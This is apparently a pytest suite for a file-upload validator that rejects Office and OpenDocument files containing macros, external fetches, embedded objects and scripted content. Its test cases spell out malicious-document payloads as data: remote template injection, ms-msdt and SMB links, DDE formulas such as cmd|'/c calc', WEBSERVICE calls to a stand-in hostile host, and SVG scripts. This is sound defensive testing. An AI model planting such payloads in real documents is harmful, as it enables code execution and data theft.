"""Office and OpenDocument files: text, tables and pictures pass; what runs, hides or fetches does not."""

import io

import pytest
from django.core.exceptions import ValidationError

from kominfo.lib.files import packages
from tests.kominfo.lib.files.office import TYPES, WORD, office, package, relations, word

SLIDES = "application/vnd.openxmlformats-officedocument.presentationml.presentation"
EXCEL = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
ODT = "application/vnd.oasis.opendocument.text"
SPACES = (
    "xmlns:draw='d' xmlns:text='t' xmlns:script='s' xmlns:meta='m' xmlns:xlink='http://www.w3.org/1999/xlink'"
)
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def odt(content="<x/>", **more):
    return package({"mimetype": ODT, "content.xml": f"<x {SPACES}>{content}</x>"} | more)


def kind(content):
    return packages.recognise(io.BytesIO(content))[0]


def sheet(**more):
    return office(EXCEL, "xl/workbook.xml", **more)


CHART = {
    "word/embeddings/Lembar1.xlsx": sheet(),
    "word/charts/_rels/chart1.xml.rels": relations(("package", "../embeddings/Lembar1.xlsx", False)),
}


@pytest.mark.parametrize(
    "content",
    [
        word(("hyperlink", "https://malutprov.go.id", True), ("image", "media/image1.png", False)),
        word(("hyperlink", "mailto:humas@malutprov.go.id", True), ("hyperlink", "#bagian", False)),
        word(body='<x xmlns:w="w"><w:instrText> HYPERLINK "https://a.id" </w:instrText></x>'),
        word(**CHART),
        office(WORD, "word/document2.xml"),
        office(WORD, "naskah.xml"),
    ],
)
def test_a_document_with_links_pictures_and_charts_passes(content):
    assert kind(content) == "DOCX"


def test_the_main_part_is_the_one_that_the_package_names():
    decoy = office(WORD, "word/document2.xml", **{"word/document.xml": "<bukan/>"})

    assert kind(decoy) == "DOCX"
    with pytest.raises(ValidationError, match="tidak dapat dilampirkan"):
        kind(office("application/x-lain", "word/document2.xml", **{"word/document.xml": "<x/>"}))


@pytest.mark.parametrize(
    ("content", "sentence"),
    [
        *(
            (word((each, "https://jahat.example/x", True)), "mengambil sesuatu dari luar")
            for each in ("attachedTemplate", "image", "oleObject", "frame", "subDocument", "aFChunk")
        ),
        (word(("attachedTemplate", r"\\10.0.0.1\x.dotm", False)), "mengambil sesuatu dari luar"),
        (word(("hyperlink", "javascript:alert(1)", True)), "tautan ke “javascript"),
        (word(("hyperlink", "ms-msdt:/id", True)), "tautan ke “ms-msdt"),
        (word(("hyperlink", "file://10.0.0.1/x", True)), "tautan ke “file"),
        (word(("oleObject", "embeddings/x.bin", False)), "disematkan"),
        (word(("package", "embeddings/x.xlsx", False), **CHART), "disematkan"),
        (word(**{"word/embeddings/x.bin": OLE}), "disematkan"),
        (word(**{"word/media/gambar.png": b"PK\x03\x04" + bytes(30)}), "disematkan"),
        (word(**{"word/media/gambar.png": b"MZ" + bytes(30)}), "disematkan"),
        (word(**{"word/embeddings/x.xlsx": sheet(**{"xl/embeddings/y.xlsx": sheet()})}), "disematkan"),
        (word(**{"word/embeddings/x.xlsx": sheet(**{"xl/vbaProject.bin": "x"})}), "memuat makro"),
        (word(**{"word/vbaProject2.bin": "x"}), "memuat makro"),
        (word(**{"word/activeX/activeX1.xml": "<x/>"}), "memuat makro"),
        (sheet(**{"xl/macrosheets/sheet1.xml": "<x/>"}), "memuat makro"),
        (office("application/vnd.ms-word.document.macroEnabled", "word/document.xml"), "memuat makro"),
        (sheet(**{"xl/externalLinks/externalLink1.xml": "<x/>"}), "mengambil sesuatu dari luar"),
        (sheet(**{"xl/connections.xml": "<x/>"}), "mengambil sesuatu dari luar"),
        (word(body="<!DOCTYPE x [<!ENTITY a 'b'>]><x>&a;</x>"), "DTD"),
        (
            word(body="<?xml version='1.0' encoding='utf-16'?><!DOCTYPE x><x/>".encode("utf-16")),
            "DTD",
        ),
        (word(**{"customXml/item1.xml": f"<!--{'a' * 200_000}--><!DOCTYPE x><x/>"}), "DTD"),
        (
            word(body='<x xmlns:w="w"><w:instrText>DDE</w:instrText><w:instrText>AUTO c:</w:instrText></x>'),
            "bidang DDEAUTO",
        ),
        (word(body='<x xmlns:w="w"><w:fldSimple w:instr="INCLUDETEXT x"/></x>'), "bidang INCLUDETEXT"),
        (word(**{"word/Document.xml": "<x/>"}), "rusak"),
        (odt("<draw:image xlink:href='https://jahat.example/x.png'/>"), "mengambil sesuatu dari luar"),
        (odt("<draw:object xlink:href='../../lain.ods'/>"), "mengambil sesuatu dari luar"),
        (odt("<text:a xlink:href='javascript:x'>x</text:a>"), "tautan ke “javascript"),
        (odt("<script:event-listener/>"), "memuat makro"),
        (odt(**{"Basic/Standard/Module1.xml": "<x/>"}), "memuat makro"),
        (odt(**{"Object 1": OLE}), "disematkan"),
        (odt("<meta:template xlink:href='https://jahat.example/x.ott'/>"), "mengambil sesuatu dari luar"),
        (odt(**{"META-INF/manifest.xml": "<m xmlns:m='m'><m:encryption-data/></m>"}), "kata sandi"),
    ],
)
def test_what_is_more_than_a_document_is_refused_with_a_remedy(content, sentence):
    with pytest.raises(ValidationError, match=sentence):
        kind(content)


def test_of_a_file_that_is_only_read_for_its_words_nothing_but_macros_and_locks_matters():
    linked = word(("image", "https://x.id/a.png", True))

    with pytest.raises(ValidationError):
        packages.recognise(io.BytesIO(linked))
    assert packages.recognise(io.BytesIO(linked), for_words=True)[0] == "DOCX"


def test_parts_are_told_by_the_lists_and_not_by_their_names_or_the_size_of_letters():
    outside = relations(("attachedTemplate", "https://jahat.example/x.dotm", True))
    types = f"""<Types xmlns="{TYPES}"><Default Extension="DAT" ContentType="application/xml"/>
        <Override PartName="/Word/Document.XML" ContentType="{WORD}.main+xml"/>
        <Override PartName="/word/lain.bin" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
        <Override PartName="/word/tautan%20data.bin" ContentType="application/vnd.x.externalLink+xml"/></Types>"""

    def named(**more):
        return kind(office(WORD, "word/document.xml", **{"[Content_Types].xml": types} | more))

    assert named() == "DOCX"
    for more in (
        {"word/_rels/settings.xml.RELS": outside},
        {"WORD/_RELS/Settings.xml.rels": outside},
        {"word/%5Frels/settings.xml.%72els": outside},
        {"word/lain.bin": outside},
        {"word/tautan data.bin": "<x/>"},
        {"word/isi.dat": "<x><ddeLink/></x>"},
        {"word/gambar.png": "<x><ddeLink/></x>"},
        {"WORD/%76baProject.BIN": "x"},
        {"word/footer1.xml": '<x xmlns:w="w"><w:instrText> DDE x</w:instrText></x>'},
        {"elsewhere/footer1.xml": '<x xmlns:w="w"><w:instrText> DDE x</w:instrText></x>'},
    ):
        with pytest.raises(ValidationError, match=r"dari luar|makro"):
            named(**more)


def test_a_part_that_is_there_twice_or_in_pieces_is_refused():
    for name in ("WORD/document.xml", "word/%64ocument.xml", "word/document.xml/[0].piece"):
        with pytest.raises(ValidationError, match="rusak"):
            kind(word(**{name: "<x/>"}))


def test_a_list_of_office_does_not_hide_what_is_in_an_open_document():
    with pytest.raises(ValidationError, match="memuat makro"):
        kind(odt("<script:event-listener/>", **{"[Content_Types].xml": "<Types/>"}))


SVG = "<svg xmlns='http://www.w3.org/2000/svg' xmlns:l='http://www.w3.org/1999/xlink'>{}</svg>"


@pytest.mark.parametrize(
    "inside",
    [
        "<script>alert(1)</script>",
        "<g onload='alert(1)'/>",
        "<foreignObject><iframe src='x'/></foreignObject>",
        "<a l:href='javascript:alert(1)'><path/></a>",
        "<set attributeName='href' to='javascript:alert(1)'/>",
        "<image href='https://jahat.example/x.png'/>",
        "<use href='data:text/html,x'/>",
        "<style>@import url(https://jahat.example/x.css)</style>",
        "<rect style='fill:url(//jahat.example/x)'/>",
    ],
)
def test_a_picture_that_runs_or_fetches_is_refused(inside):
    for name in ("word/media/gambar.svg", "word/media/gambar.png"):
        with pytest.raises(ValidationError, match=r"memuat skrip|dari luar|menjalankan program"):
            kind(word(**{name: SVG.format(inside)}))
    with pytest.raises(ValidationError):
        kind(odt(**{"Pictures/a.svg": SVG.format(inside)}))


def test_a_drawn_picture_stays():
    drawn = SVG.format(
        "<style>.a{fill:url(#warna)}</style><defs/><image href='data:image/png;base64,AA=='/><use l:href='#a'/>"
        "<a href='https://malutprov.go.id'><text>Situs</text></a><foreignObject><div>Bagan</div></foreignObject>"
    )

    assert kind(word(**{"word/media/gambar.svg": drawn})) == "DOCX"
    assert kind(odt(**{"Pictures/a.svg": drawn})) == "ODT"


@pytest.mark.parametrize(
    "formula",
    [
        '_xlfn.WEBSERVICE("https://jahat.example")', '_xlfn.IMAGE("https://jahat.example/x.png")', "_xlfn.FILTERXML(A1,A2)",
        "cmd|'/c calc'!A1", "'cmd'|'/c calc'!A1", "RTD(&quot;x&quot;,,1)", 'HYPERLINK("smb://10.0.0.1/x","klik")',
        'HYPERLINK("javascript:alert(1)")', 'HYPERLINK( "\\\\10.0.0.1\\x" )', "1+CALL(A1)", "'file:///c:/x.xls'#$A.A1",
        "'\\\\10.0.0.1\\[x.xlsx]A'!A1", "webservice (A1)",
    ],
)  # fmt: skip
def test_a_formula_that_does_more_than_reckon_is_refused_wherever_it_stands(formula):
    for element in ("f", "definedName", "formula1", "calculatedColumnFormula"):
        with pytest.raises(ValidationError, match=r"memuat rumus|tautan ke"):
            kind(sheet(**{"xl/worksheets/sheet1.xml": f"<x><{element}>{formula}</{element}></x>"}))
    if "|" not in formula:  # which parts the rows of a list there
        open_sheet = f"<t:c xmlns:t='t' t:formula='of:={formula.replace(chr(39), '&apos;')}'/>"
        with pytest.raises(ValidationError, match=r"memuat rumus|tautan ke"):
            kind(odt(open_sheet))


@pytest.mark.parametrize(
    "formula",
    [
        "SUM(A1:B9)", "'Data|Lama'!A1", 'A1&amp;" | "&amp;B1', 'HYPERLINK("https://malutprov.go.id","Situs: resmi")',
        "HYPERLINK(A1)", 'HYPERLINK("#Lembar2!A1","Rincian")', "_xlfn.XLOOKUP(A1,B:B,C:C)", "'Jan:Mar'!A1", "{1,2;3,4}",
        '"WEBSERVICE(A1)"', "CALLS+IMAGES",
    ],
)  # fmt: skip
def test_a_formula_that_reckons_stays(formula):
    assert kind(sheet(**{"xl/worksheets/sheet1.xml": f"<x><c><f>{formula}</f><v>1</v></c></x>"})) == "XLSX"


def test_rows_of_a_list_in_an_open_sheet_are_no_program():
    assert kind(odt("<t:c xmlns:t='t' t:formula='of:=SUM({1;2|3;4})'/>")) == "ODT"


@pytest.mark.parametrize(
    ("content", "sentence"),
    [
        (word(("aFChunk", "afchunk.htm", False), **{"word/afchunk.htm": "<p>x</p>"}), "disematkan"),
        (word(("AFCHUNK", "x.txt", False), **{"word/x.txt": "teks"}), "disematkan"),
        (word(**{"word/x.mht": "MIME-Version: 1.0"}), "disematkan"),
        (word(**{"word/x.bin": "\ufeff <!DOCTYPE  html><p>x"}), "disematkan"),
        (word(**{"word/x.bin": "<HTML><p>x"}), "disematkan"),
        (word(**{"word/x.xml": "<?xml version='1.0'?><html/>"}), "disematkan"),
        (word(**{"word/x.bin": "{\\rtf1}"}), "disematkan"),
        (word(("hyperlink", "java&#9;script:alert(1)", True)), "yang menjalankan program"),
        (word(("hyperlink", "smb://10.0.0.1/x", True)), "yang menuju berkas"),
        (word(("hyperlink", r"\\10.0.0.1\x", True)), "yang menuju berkas"),
        (word(("hyperlink", "search-ms:query=x", True)), "yang menjalankan program"),
        (
            word(body='<x xmlns:w="w"><w:instrText> HYPERLINK "javascript:x"</w:instrText></x>'),
            "menjalankan program",
        ),
        (word(body='<x xmlns:w="w"><w:instrText>QUOTE 68 68 69</w:instrText></x>'), "bidang QUOTE"),
        (word(**{"docProps/app.xml": r"<x><HyperlinkBase>\\10.0.0.1\</HyperlinkBase></x>"}), "tautan ke"),
        (word(body="<v xmlns:v='urn:schemas-microsoft-com:vml'><v:imagedata src='//h/x'/></v>"), "dari luar"),
        (word(body="<x xmlns='urn:schemas-microsoft-com:vml' href='file://h/x'/>"), "tautan ke"),
        (
            office(SLIDES, "ppt/p.xml", **{"ppt/s1.xml": "<x action='ppaction://program'/>"}),
            "tombol atau gambar",
        ),
        (
            sheet(**{"xl/w.xml": "<x><definedName name='_xlnm.Auto_Open'>A!A1</definedName></x>"}),
            "memuat makro",
        ),
        (sheet(**{"xl/x.xml": "<x><ddeLink ddeService='cmd'/></x>"}), "dari luar"),
        (
            word(**{"customXml/item1.xml": "<DataMashup xmlns='http://schemas.microsoft.com/DataMashup'/>"}),
            "dari luar",
        ),
        (word(("mailMergeSource", "x.csv", False)), "dari luar"),
        (word(("webextensiontaskpanes", "x.xml", False)), "memuat makro"),
        (odt("<text:script>x</text:script>"), "memuat makro"),
    ],
)
def test_what_hides_in_other_parts_is_refused_too(content, sentence):
    with pytest.raises(ValidationError, match=sentence):
        kind(content)


def test_fields_with_the_word_link_in_an_address_or_a_hint_stay():
    field = r'HYPERLINK "https://bit.ly/link-zoom" \o "Buka link ini" '

    assert kind(word(body=f"<x xmlns:w='w'><w:instrText>{field}</w:instrText><w:fldChar/></x>")) == "DOCX"


def test_an_open_document_with_pictures_links_and_a_template_on_its_writers_disk_passes():
    content = (
        "<draw:image xlink:href='Pictures/a.png'/><text:a xlink:href='https://malutprov.go.id'/>"
        "<meta:template xlink:href='../../Templates/kop.ott'/>"
    )
    parts = {"Object 1/content.xml": "<x/>", "Configurations2/accelerator/current.xml": ""}

    assert kind(odt(content, **parts)) == "ODT"
